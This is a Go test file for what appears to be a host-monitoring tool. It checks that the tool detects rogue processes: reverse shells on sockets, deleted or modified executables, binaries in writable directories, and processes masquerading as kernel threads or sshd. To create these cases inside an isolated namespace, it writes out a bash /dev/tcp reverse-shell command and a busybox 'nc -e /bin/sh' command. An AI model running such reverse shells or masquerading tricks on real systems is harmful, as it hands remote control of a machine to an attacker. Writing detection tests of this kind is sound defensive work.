package app

import (
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/portwarden/portwarden/report"
	"github.com/portwarden/portwarden/services/catalog"
	"github.com/portwarden/portwarden/services/signs"
	"github.com/portwarden/portwarden/services/verdict"
	"github.com/portwarden/portwarden/sockets"
	"github.com/portwarden/portwarden/sockets/sockettest"
)

// TestSignsOfRogueProcesses runs the real thing in a namespace of the
// test's own, and finds each sign on the process that shows it: a bash
// /dev/tcp reverse shell and a busybox nc -e /bin/sh to a peer; a copy of
// a program deleted while it serves; a copy in /dev/shm named like a
// kernel thread; a copy in /tmp calling itself sshd; a packaged binary
// whose running file differs (a modified copy bind-mounted over it in a
// private mount namespace, so the host's file stays untouched) — and no
// sign on a stock packaged program.
func TestSignsOfRogueProcesses(t *testing.T) {
	bed := sockettest.FirewallBedForTest(t)
	for _, bin := range []string{"bash", "busybox", "setsid", "python3"} {
		if _, err := exec.LookPath(bin); err != nil {
			t.Fatalf("%s is required (scripts/test.sh installs it)", bin)
		}
	}
	peer := netip.AddrPortFrom(nthAddr(bed.PublicNet4.Addr(), 7), 0)
	accepted := make(chan net.Conn, 4)
	for _, port := range []uint16{4445, 4446} {
		var ln net.Listener
		if err := bed.Public.Do(func() (err error) {
			ln, err = net.Listen("tcp4", netip.AddrPortFrom(peer.Addr(), port).String())
			return err
		}); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { ln.Close() })
		go func() {
			if c, err := ln.Accept(); err == nil {
				accepted <- c
			}
		}()
	}
	t.Cleanup(func() {
		for {
			select {
			case c := <-accepted:
				c.Close()
			default:
				return
			}
		}
	})
	inServer := func(args ...string) *exec.Cmd {
		cmd := exec.Command("ip", append([]string{"netns", "exec", bed.Server.Name}, args...)...)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
		return cmd
	}
	bash := inServer("setsid", "bash", "-c", "exec bash --noprofile --norc -i >& /dev/tcp/"+peer.Addr().String()+"/4445 0>&1")
	nc := inServer("busybox", "nc", peer.Addr().String(), "4446", "-e", "/bin/sh")

	// Copies of this test binary, each holding a listener.
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	copyTo := func(path string) {
		t.Helper()
		src, err := os.Open(self)
		if err != nil {
			t.Fatal(err)
		}
		defer src.Close()
		dst, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o755)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(dst, src); err != nil {
			t.Fatal(err)
		}
		dst.Close()
	}
	hold := func(exe, argv0 string) *sockettest.Holder {
		t.Helper()
		ln, err := net.Listen("tcp4", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		f, _ := ln.(*net.TCPListener).File()
		ln.Close()
		defer f.Close()
		h, err := sockettest.HoldAs(exe, argv0, f)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { h.Close() })
		return h
	}
	// /tmp itself, whatever TMPDIR says: a directory any user can write.
	dir, err := os.MkdirTemp("/tmp", "pw-signs-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	deletedExe := filepath.Join(dir, "pw-vanishing")
	copyTo(deletedExe)
	deleted := hold(deletedExe, "pw-vanishing")
	shm := filepath.Join("/dev/shm", "pw-kw-"+strconv.Itoa(os.Getpid()))
	copyTo(shm)
	t.Cleanup(func() { os.Remove(shm) })
	mimic := hold(shm, "[kworker/0:2]")
	fakeSSHD := filepath.Join(dir, "sshd")
	copyTo(fakeSSHD)
	sshd := hold(fakeSSHD, "sshd")
	if !sockettest.WaitFor(10*time.Second, func() bool { return sockettest.Running(deleted.PID) && sockettest.Running(sshd.PID) }) {
		t.Fatal("the holders did not start")
	}
	if err := os.Remove(deletedExe); err != nil {
		t.Fatal(err)
	}

	// A packaged binary, and a modified copy of it mounted over it in a
	// private mount namespace.
	python, err := filepath.EvalSymlinks("/usr/bin/python3")
	if err != nil {
		t.Fatal(err)
	}
	serve := "import socket, time\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\ntime.sleep(300)"
	stock := exec.Command(python, "-c", serve)
	if err := stock.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { stock.Process.Kill(); stock.Wait() })
	modifiedCopy := filepath.Join(dir, "python-modified")
	b, err := os.ReadFile(python)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(modifiedCopy, append(b, 0), 0o755); err != nil { // a byte past the ELF's end: it still runs
		t.Fatal(err)
	}
	modified := exec.Command("unshare", "--mount", "--propagation", "private", "sh", "-c",
		`mount --bind "$0" "$1" && exec "$1" -c "$2"`, modifiedCopy, python, serve)
	if err := modified.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { modified.Process.Kill(); modified.Wait() })

	a, _ := newApp(t, Options{NetNS: sockets.NetNSFilter("all")})
	want := map[int]signs.Code{bash.Process.Pid: signs.ShellOnSocket, nc.Process.Pid: signs.ShellOnSocket,
		deleted.PID: signs.ExeDeleted, mimic.PID: signs.KernelNameMimic, sshd.PID: signs.NameMismatch,
		modified.Process.Pid: signs.ExeModified}
	var in *Inspection
	sockettest.WaitFor(15*time.Second, func() bool {
		if in, err = a.Inspect(sockets.Query{}); err != nil {
			t.Fatal(err)
		}
		for pid, code := range want {
			if !slices.ContainsFunc(in.Signs[pid], func(s signs.Sign) bool { return s.Code == code }) {
				return false
			}
		}
		return true
	})
	for pid, code := range want {
		if !slices.ContainsFunc(in.Signs[pid], func(s signs.Sign) bool { return s.Code == code }) {
			t.Errorf("pid %d: signs %+v, want %s", pid, in.Signs[pid], code)
		}
	}
	for _, pid := range []int{deleted.PID, mimic.PID, sshd.PID} {
		if !slices.ContainsFunc(in.Signs[pid], func(s signs.Sign) bool { return s.Code == signs.ExeInWritableDir }) {
			t.Errorf("pid %d runs from a writable directory: signs %+v", pid, in.Signs[pid])
		}
	}
	if s := in.Signs[stock.Process.Pid]; len(s) > 0 {
		t.Errorf("a stock packaged program shows signs: %+v", s)
	}
	// After baseline init every listener is expected; the check still
	// fails, naming the shell.
	if _, err := a.InitBaseline(in, "test"); err != nil {
		t.Fatal(err)
	}
	if in, err = a.Inspect(sockets.Query{}); err != nil {
		t.Fatal(err)
	}
	sum := verdict.Summarize(in.Judged, verdict.DefaultPolicy())
	var check strings.Builder
	if err := report.WriteCheck(&check, in.Judged, report.Portless{Raw: in.Raw}, verdict.DefaultPolicy()); err != nil {
		t.Fatal(err)
	}
	if sum.OK() || sum.FailingListeners > 0 || !strings.Contains(check.String(), "shell-on-socket") || !strings.Contains(check.String(), "signs of a rogue process") {
		t.Errorf("check after baseline init: ok %v, %d failing listeners; want it failing on the signs alone:\n%s", sum.OK(), sum.FailingListeners, check.String())
	}
	// A sign acknowledged for one executable raises nothing there.
	ack := "\n[[sign]]\nsign = \"name-mismatch\"\nexe = \"" + fakeSSHD + "\"\nreason = \"test double\"\nowner = \"test\"\n" +
		"\n[[sign]]\nsign = \"exe-in-writable-dir\"\nexe = \"" + fakeSSHD + "\"\nreason = \"test double\"\nowner = \"test\"\n"
	f, err := os.OpenFile(a.BaselinePath(), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(ack)
	f.Close()
	if in, err = a.Inspect(sockets.Query{}); err != nil {
		t.Fatal(err)
	}
	for _, j := range in.Judged {
		for _, p := range j.Socket.Processes {
			if p.PID != sshd.PID {
				continue
			}
			if r, ok := j.Verdict.SignRisk(); ok && r >= catalog.High || !strings.Contains(strings.Join(j.Verdict.Reasons, ";"), "acknowledged") {
				t.Errorf("acknowledged signs still raise the risk to %v: %q", r, j.Verdict.Reasons)
			}
		}
	}
	// The shell's socket carries its sign into the verdict, at critical.
	for _, j := range in.Judged {
		if j.Socket.Remote.Port() == 4445 && len(j.Socket.Processes) > 0 && j.Socket.Processes[0].PID == bash.Process.Pid {
			if r, ok := j.Verdict.SignRisk(); !ok || r.String() != "critical" || !strings.Contains(strings.Join(j.Verdict.Reasons, ";"), "shell-on-socket") {
				t.Errorf("the reverse shell's connection: risk %v, reasons %q", r, j.Verdict.Reasons)
			}
		}
	}
}

func nthAddr(base netip.Addr, n int) netip.Addr {
	b := base.As4()
	b[3] += byte(n)
	return netip.AddrFrom4(b)
}
